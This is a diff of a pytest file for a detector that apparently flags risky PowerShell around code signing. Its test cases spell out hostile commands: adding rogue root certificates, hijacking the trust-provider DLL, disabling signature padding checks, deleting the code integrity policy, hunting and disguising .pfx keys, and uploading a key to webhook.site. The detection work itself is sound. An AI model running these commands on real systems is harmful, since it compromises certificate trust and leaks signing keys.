@@ -6,17 +6,16 @@ import csv
 from pathlib import Path
 
 import pytest
+from codesignrisk_core.model import Report, Script
+from codesignrisk_core.tools import powershell
 from hypothesis import given, settings
 from hypothesis import strategies as st
-
-from codesignrisk_core.model import Script
-from codesignrisk_core.tools import powershell
 
 LOOKUP = Path(__file__).parents[2] / "lookups" / "codesignrisk_indicators.csv"
 THUMBPRINT = "0123456789ABCDEF0123456789ABCDEF01234567"
 
 
-def judge(text: str, cwd: str = "C:\\work") -> powershell.Report:
+def judge(text: str, cwd: str = "C:\\work") -> Report:
     return powershell.judge_script(Script(text, cwd=cwd))
 
 
@@ -39,22 +38,30 @@ STORE_WRITES = [
     # through variables, splatting, loops, the current location
     ("$s='Cert:\\LocalMachine\\Root'; Import-Certificate x.cer -CertStoreLocation $s", "LocalMachine\\root"),
     ("$n='ot'; Import-Certificate x.cer -CertStoreLocation \"Cert:\\LocalMachine\\Ro$n\"", "LocalMachine\\root"),
-    ("$p=@{FilePath='x.cer'; CertStoreLocation='Cert:\\LocalMachine\\Root'}\nImport-Certificate @p", "LocalMachine\\root"),
+    (
+        "$p=@{FilePath='x.cer'; CertStoreLocation='Cert:\\LocalMachine\\Root'}\nImport-Certificate @p",
+        "LocalMachine\\root",
+    ),
     ("'Root' | % { Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\$_ }", "LocalMachine\\root"),
     ("Set-Location Cert:\\LocalMachine\\Root; Import-Certificate C:\\x.cer", "LocalMachine\\root"),
     ("cd Cert:\\LocalMachine; Import-Certificate C:\\x.cer -CertStoreLocation .\\Root", "LocalMachine\\root"),
-    ("iex \"Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\Root\"", "LocalMachine\\root"),
+    ('iex "Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\Root"', "LocalMachine\\root"),
     ("gci *.cer | Import-Certificate -CertStoreLocation Cert:\\LocalMachine\\Root", "LocalMachine\\root"),
     # other ways in
     ("Move-Item $c.PSPath -Destination Cert:\\LocalMachine\\Root", "LocalMachine\\root"),
     ("gci Cert:\\CurrentUser\\My | Copy-Item -Destination Cert:\\CurrentUser\\Root", "CurrentUser\\root"),
-    ("$s = New-Object System.Security.Cryptography.X509Certificates.X509Store 'Root','LocalMachine'\n"
-     "$s.Open('ReadWrite'); $s.Add($c)", "LocalMachine\\root"),
-    ("$s = [X509Store]::new([StoreName]::TrustedPublisher, [StoreLocation]::LocalMachine); $s.AddRange($c)",
-     "LocalMachine\\trustedpublisher"),
+    (
+        "$s = New-Object System.Security.Cryptography.X509Certificates.X509Store 'Root','LocalMachine'\n"
+        "$s.Open('ReadWrite'); $s.Add($c)",
+        "LocalMachine\\root",
+    ),
+    (
+        "$s = [X509Store]::new([StoreName]::TrustedPublisher, [StoreLocation]::LocalMachine); $s.AddRange($c)",
+        "LocalMachine\\trustedpublisher",
+    ),
     ("(New-Object X509Store([StoreName]::CertificateAuthority)).Add($c)", "CurrentUser\\ca"),
     ("$s = Get-Item Cert:\\LocalMachine\\Root; $s.Open('ReadWrite'); $s.Add($c)", "LocalMachine\\root"),
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize(("text", "store"), STORE_WRITES)
@@ -76,25 +83,49 @@ def test_the_file_and_where_it_lies() -> None:
 
 
 REGISTRY = [
-    ("Set-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\AB Blob $b", "LocalMachine\\root"),
-    ("sp -Path Registry::HKEY_CURRENT_USER\\Software\\Microsoft\\SystemCertificates\\Root\\Certificates\\AB -Name Blob 1",
-     "CurrentUser\\root"),
-    ("New-ItemProperty -Name Blob -Value $b -PropertyType Binary -Path "
-     "HKLM:\\SOFTWARE\\Microsoft\\EnterpriseCertificates\\Root\\Certificates\\AB", "Enterprise\\root"),
-    ("cd HKLM:\\SOFTWARE\\Microsoft\\SystemCertificates; sp TrustedPublisher\\Certificates\\AB Blob $b",
-     "LocalMachine\\trustedpublisher"),
-    ("[Microsoft.Win32.Registry]::SetValue('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates"
-     "\\AB','Blob',$b)", "LocalMachine\\root"),
-    ("$k=[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates',"
-     "$true); $n=$k.CreateSubKey('AB'); $n.SetValue('Blob',$b)", "LocalMachine\\root"),
-    ("Invoke-WmiMethod -Namespace root\\default -Class StdRegProv -Name SetBinaryValue -ArgumentList 2147483650,"
-     "'SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates\\AB','Blob',$b", "LocalMachine\\root"),
-    ("Invoke-CimMethod -ClassName StdRegProv -MethodName SetBinaryValue -Arguments @{hDefKey=[uint32]2147483649; "
-     "sSubKeyName='Software\\Microsoft\\SystemCertificates\\Root\\Certificates\\AB'; sValueName='Blob'; uValue=$b}",
-     "CurrentUser\\root"),
-    ("([wmiclass]'root\\default:StdRegProv').SetBinaryValue(2147483650,'SOFTWARE\\Microsoft\\SystemCertificates\\CA\\"
-     "Certificates\\AB','Blob',$b)", "LocalMachine\\ca"),
-]  # fmt: skip
+    (
+        "Set-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\AB Blob $b",
+        "LocalMachine\\root",
+    ),
+    (
+        "sp -Pat Registry::HKEY_CURRENT_USER\\Software\\Microsoft\\SystemCertificates\\Root\\Certificates\\A Blob 1",
+        "CurrentUser\\root",
+    ),
+    (
+        "New-ItemProperty -Name Blob -Value $b -PropertyType Binary -Path "
+        "HKLM:\\SOFTWARE\\Microsoft\\EnterpriseCertificates\\Root\\Certificates\\AB",
+        "Enterprise\\root",
+    ),
+    (
+        "cd HKLM:\\SOFTWARE\\Microsoft\\SystemCertificates; sp TrustedPublisher\\Certificates\\AB Blob $b",
+        "LocalMachine\\trustedpublisher",
+    ),
+    (
+        "[Microsoft.Win32.Registry]::SetValue('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates"
+        "\\AB','Blob',$b)",
+        "LocalMachine\\root",
+    ),
+    (
+        "$k=[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates',"
+        "$true); $n=$k.CreateSubKey('AB'); $n.SetValue('Blob',$b)",
+        "LocalMachine\\root",
+    ),
+    (
+        "Invoke-WmiMethod -Namespace root\\default -Class StdRegProv -Name SetBinaryValue -ArgumentList 2147483650,"
+        "'SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates\\AB','Blob',$b",
+        "LocalMachine\\root",
+    ),
+    (
+        "Invoke-CimMethod -ClassName StdRegProv -MethodName SetBinaryValue -Arguments @{hDefKey=[uint32]2147483649; "
+        "sSubKeyName='Software\\Microsoft\\SystemCertificates\\Root\\Certificates\\AB'; sValueName='Blob'; uValue=$b}",
+        "CurrentUser\\root",
+    ),
+    (
+        "([wmiclass]'root\\default:StdRegProv').SetBinaryValue(2147483650,'SOFTWARE\\Microsoft\\SystemCertificates\\CA\\"
+        "Certificates\\AB','Blob',$b)",
+        "LocalMachine\\ca",
+    ),
+]
 
 
 @pytest.mark.parametrize(("text", "store"), REGISTRY)
@@ -108,44 +139,109 @@ SIP = "HKLM:\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDl
 
 # text, indicators, action
 ACTIONS = [
-    (f"Set-ItemProperty '{SIP}' -Name Dll -Value C:\\Users\\Public\\a.dll", {"trust_provider_hijack", "input_user_writable"},
-     "hijack_trust_provider"),
+    (
+        f"Set-ItemProperty '{SIP}' -Name Dll -Value C:\\Users\\Public\\a.dll",
+        {"trust_provider_hijack", "input_user_writable"},
+        "hijack_trust_provider",
+    ),
     ("Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\My", {"add_to_store_my"}, "add_to_store"),
     ("Import-PfxCertificate x.pfx -CertStoreLocation Cert:\\LocalMachine\\My", {"import_pfx"}, "import_pfx"),
     ("Import-Certificate x.cer -CertStoreLocation $unknown", {"add_to_store_other"}, "add_to_store"),
     (f"Remove-Item Cert:\\LocalMachine\\Root\\{THUMBPRINT}", {"delete_from_trusted_store"}, "delete_from_store"),
-    ("gci Cert:\\LocalMachine\\Root | ? Subject -like *x* | Remove-Item", {"delete_from_trusted_store"}, "delete_from_store"),
-    ("foreach ($c in gci Cert:\\CurrentUser\\My) { Remove-Item $c.PSPath }", {"delete_from_store"}, "delete_from_store"),
+    (
+        "gci Cert:\\LocalMachine\\Root | ? Subject -like *x* | Remove-Item",
+        {"delete_from_trusted_store"},
+        "delete_from_store",
+    ),
+    (
+        "foreach ($c in gci Cert:\\CurrentUser\\My) { Remove-Item $c.PSPath }",
+        {"delete_from_store"},
+        "delete_from_store",
+    ),
     ("$s=[X509Store]::new('Root'); $s.Remove($c)", {"delete_from_trusted_store"}, "delete_from_store"),
+    (
+        "Copy-Item HKCU:\\X HKLM:\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\AB",
+        {"registry_store_write"},
+        "add_to_store",
+    ),
+    (
+        "rp HKLM:\\SOFTWARE\\Microsoft\\SystemCertificates\\Disallowed\\Certificates\\AB Blob",
+        {"delete_from_trusted_store"},
+        "delete_from_store",
+    ),
+    (
+        "sp HKLM:\\SOFTWARE\\Microsoft\\Cryptography\\Wintrust\\Config EnableCertPaddingCheck 0",
+        {"weaken_code_integrity"},
+        "weaken_code_integrity",
+    ),
     # making
     ("New-SelfSignedCertificate -DnsName localhost", {"make_certificate"}, "make_certificate"),
-    ("New-SelfSignedCertificate -Type CodeSigningCert -Subject CN=x", {"make_codesigning_certificate"}, "make_certificate"),
+    (
+        "New-SelfSignedCertificate -Type CodeSigningCert -Subject CN=x",
+        {"make_codesigning_certificate"},
+        "make_certificate",
+    ),
     ("New-SelfSignedCertificate -Type Code -Subject CN=x", {"make_codesigning_certificate"}, "make_certificate"),
-    ("New-SelfSignedCertificate -Type Custom -TextExtension @('2.5.29.37={text}1.3.6.1.5.5.7.3.3')",
-     {"make_codesigning_certificate"}, "make_certificate"),
-    ("New-SelfSignedCertificate -Type Custom -TextExtension '2.5.29.37={text}1.3.6.1.5.5.7.3.31'", {"make_certificate"},
-     "make_certificate"),
-    ("New-SelfSignedCertificate -Type CodeSigningCert -Subject 'CN=Microsoft Corporation'",
-     {"make_codesigning_certificate", "subject_impersonates"}, "make_certificate"),
-    ("New-SelfSignedCertificate -DnsName a -Signer $ca", {"make_certificate", "issued_by_own_authority"}, "make_certificate"),
+    (
+        "New-SelfSignedCertificate -Type Custom -TextExtension @('2.5.29.37={text}1.3.6.1.5.5.7.3.3')",
+        {"make_codesigning_certificate"},
+        "make_certificate",
+    ),
+    (
+        "New-SelfSignedCertificate -Type Custom -TextExtension '2.5.29.37={text}1.3.6.1.5.5.7.3.31'",
+        {"make_certificate"},
+        "make_certificate",
+    ),
+    (
+        "New-SelfSignedCertificate -Type CodeSigningCert -Subject 'CN=Microsoft Corporation'",
+        {"make_codesigning_certificate", "subject_impersonates"},
+        "make_certificate",
+    ),
+    (
+        "New-SelfSignedCertificate -DnsName a -Signer $ca",
+        {"make_certificate", "issued_by_own_authority"},
+        "make_certificate",
+    ),
     ("New-SelfSignedCertificate -CloneCert $c", {"make_certificate", "cloned_certificate"}, "make_certificate"),
-    ("New-SelfSignedCertificateEx -Subject CN=x -EKU 'Code Signing'", {"make_codesigning_certificate"}, "make_certificate"),
-    ("$r=[CertificateRequest]::new('CN=x',$k,$h,$p); $r.CreateSelfSigned($a,$b)", {"make_certificate"}, "make_certificate"),
-    ("$r=[CertificateRequest]::new('CN=x',$k,$h,$p); $o.Add([Oid]'1.3.6.1.5.5.7.3.3'); $r.CreateSelfSigned($a,$b)",
-     {"make_codesigning_certificate"}, "make_certificate"),
+    (
+        "New-SelfSignedCertificateEx -Subject CN=x -EKU 'Code Signing'",
+        {"make_codesigning_certificate"},
+        "make_certificate",
+    ),
+    (
+        "$r=[CertificateRequest]::new('CN=x',$k,$h,$p); $r.CreateSelfSigned($a,$b)",
+        {"make_certificate"},
+        "make_certificate",
+    ),
+    (
+        "$r=[CertificateRequest]::new('CN=x',$k,$h,$p); $o.Add([Oid]'1.3.6.1.5.5.7.3.3'); $r.CreateSelfSigned($a,$b)",
+        {"make_codesigning_certificate"},
+        "make_certificate",
+    ),
     # exporting
-    ("gci Cert:\\CurrentUser\\My | Export-PfxCertificate -FilePath D:\\keys\\a.pfx -Password $p", {"export_key"}, "export_key"),
+    (
+        "gci Cert:\\CurrentUser\\My | Export-PfxCertificate -FilePath D:\\keys\\a.pfx -Password $p",
+        {"export_key"},
+        "export_key",
+    ),
     ("Export-PfxCertificate $c C:\\Users\\Public\\a.pfx", {"export_key", "output_user_writable"}, "export_key"),
     ("Export-Certificate -Cert $c -FilePath D:\\keys\\a.cer", {"export_certificate"}, "export_certificate"),
-    ("[IO.File]::WriteAllBytes('C:\\Temp\\a.pfx', $c.Export('Pfx', $p))", {"export_key", "output_user_writable"}, "export_key"),
+    (
+        "[IO.File]::WriteAllBytes('C:\\Temp\\a.pfx', $c.Export('Pfx', $p))",
+        {"export_key", "output_user_writable"},
+        "export_key",
+    ),
     ("$c.Export([Security.Cryptography.X509Certificates.X509ContentType]::Pkcs12)", {"export_key"}, "export_key"),
     ("$c.Export('Cert')", {"export_certificate"}, "export_certificate"),
     ("$rsa.ExportPkcs8PrivateKey()", {"export_key"}, "export_key"),
     # signing
     ("Set-AuthenticodeSignature a.ps1 $c -TimestampServer http://t", {"powershell_sign"}, "sign"),
     ("Set-AuthenticodeSignature a.ps1 $c", {"powershell_sign", "no_timestamp"}, "sign"),
-    ("Set-AuthenticodeSignature -Cert (Get-PfxCertificate D:\\k\\a.pfx) -FilePath D:\\b\\a.exe -Time http://t",
-     {"powershell_sign", "load_key_file"}, "sign"),
+    (
+        "Set-AuthenticodeSignature -Cert (Get-PfxCertificate D:\\k\\a.pfx) -FilePath D:\\b\\a.exe -Time http://t",
+        {"powershell_sign", "load_key_file"},
+        "sign",
+    ),
     # key files
     ("Get-ChildItem C:\\ -Recurse -Include *.pfx,*.p12", {"hunt_key_files", "several_key_kinds"}, "search_keys"),
     ("ls C:\\Users -r | ? { $_.Extension -eq '.pfx' }", {"hunt_key_files"}, "search_keys"),
@@ -153,20 +249,44 @@ ACTIONS = [
     ("gci .\\src -Recurse -Filter *.snk", {"search_key_files"}, "search_keys"),
     ("Copy-Item D:\\keys\\a.pfx \\\\host\\share", {"copy_key_file", "key_to_share"}, "copy_key"),
     ("Compress-Archive D:\\keys\\*.pfx a.zip", {"archive_key_files"}, "archive_key"),
+    (
+        "gci D:\\keys -Recurse -Include *.pfx,*.p12 | Compress-Archive -DestinationPath a.zip",
+        {"hunt_key_files", "archive_key_files", "several_key_kinds"},
+        "search_keys",
+    ),
+    (
+        "Get-Content D:\\keys\\a.pfx -Encoding Byte | Set-Content D:\\o\\a.log -Encoding Byte",
+        {"copy_key_file", "key_disguised"},
+        "copy_key",
+    ),
+    ("[IO.File]::WriteAllBytes('D:\\b.pfx', [IO.File]::ReadAllBytes('D:\\a.pfx'))", {"copy_key_file"}, "copy_key"),
+    ("irm https://webhook.site/1 -Method Post -InFile a.pfx", {"upload_key_file", "key_to_outside"}, "upload_key"),
+    (
+        "Remove-Item C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b -Force",
+        {"code_integrity_policy"},
+        "change_code_integrity_policy",
+    ),
     ("Invoke-WebRequest https://x -Method Post -InFile D:\\keys\\a.pfx", {"upload_key_file"}, "upload_key"),
     ("(New-Object Net.WebClient).UploadFile('https://x', 'D:\\keys\\a.pfx')", {"upload_key_file"}, "upload_key"),
-    ("$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes('D:\\keys\\a.pfx')); irm https://x -Method Post -Body $b",
-     {"copy_key_file", "upload_key_file"}, "upload_key"),
+    (
+        "$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes('D:\\keys\\a.pfx')); irm https://x -Method Post -Body $b",
+        {"copy_key_file", "upload_key_file"},
+        "upload_key",
+    ),
     ("Start-BitsTransfer -TransferType Upload -Source D:\\keys\\a.pfx https://x", {"upload_key_file"}, "upload_key"),
     ("[IO.File]::WriteAllBytes('D:\\a.pfx', [Convert]::FromBase64String($env:PFX))", {"decode_key_file"}, "decode_key"),
     ("iwr https://x/a.pfx -OutFile D:\\keys\\a.pfx", {"fetch_key"}, "fetch_key"),
-    ("(New-Object Net.WebClient).DownloadFile('https://x/a.cer', 'D:\\a.cer')", {"fetch_certificate"}, "fetch_certificate"),
+    (
+        "(New-Object Net.WebClient).DownloadFile('https://x/a.cer', 'D:\\a.cer')",
+        {"fetch_certificate"},
+        "fetch_certificate",
+    ),
     # tools by name
     ("Invoke-LazySign -Target a.exe -Domain x.com", {"fake_signature_tool"}, "fake_signature"),
     ("ipmo .\\metatwin.ps1", {"fake_signature_tool"}, "fake_signature"),
     ("& C:\\x\\Invoke-DllClone.ps1 a b", {"fake_signature_tool"}, "fake_signature"),
     ("iex (iwr https://x/Invoke-LazySign.ps1)", {"fake_signature_tool"}, "fake_signature"),
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize(("text", "expected", "action"), ACTIONS)
@@ -229,7 +349,7 @@ def test_secrets_are_known_and_never_told(text: str) -> None:
 
 
 def test_a_password_from_elsewhere_is_no_secret() -> None:
-    text = "Import-PfxCertificate a.pfx Cert:\\CurrentUser\\My -Password (ConvertTo-SecureString $env:PW -AsPlainText -Force)"
+    text = "Import-PfxCertificate a.pfx -Password (ConvertTo-SecureString $env:PW -AsPlainText)"
     assert judge(text).secrets == []
 
 
@@ -280,7 +400,8 @@ def test_every_indicator_has_its_row() -> None:
 _PIECES = st.sampled_from(
     """Import-Certificate Export-PfxCertificate New-SelfSignedCertificate Set-AuthenticodeSignature Move-Item sp iex
     Cert:\\LocalMachine\\Root -CertStoreLocation -Password -FilePath $c = ; | ( ) { } @{ } 'a.pfx' "b$c" , [X509Store]
-    ::new .Add .Export New-Object gci -Recurse *.pfx ConvertTo-SecureString -AsPlainText @p % $_ + -f Start-Process""".split()
+    ::new .Add .Export New-Object gci -Recurse *.pfx ConvertTo-SecureString -AsPlainText @p % $_ + -f
+    Start-Process""".split()
 )
 
 
@@ -289,3 +410,16 @@ _PIECES = st.sampled_from(
 def test_never_raises(text: str) -> None:
     powershell.judge_script(Script(text))
     powershell.native_commands(Script(text))
+
+
+def test_a_certificate_that_comes_as_text_comes_from_that_text() -> None:
+    report = judge(
+        "$s = [X509Store]::new('Root', 'LocalMachine'); $s.Open('MaxAllowed'); "
+        "$s.Add([X509Certificate2]::new([Convert]::FromBase64String((Get-Content C:\\Users\\Public\\c.txt))))"
+    )
+    assert {found.indicator for found in report.findings} == {
+        "add_to_store_root",
+        "input_user_writable",
+        "input_odd_extension",
+    }
+    assert report.files == ["c:\\users\\public\\c.txt"]
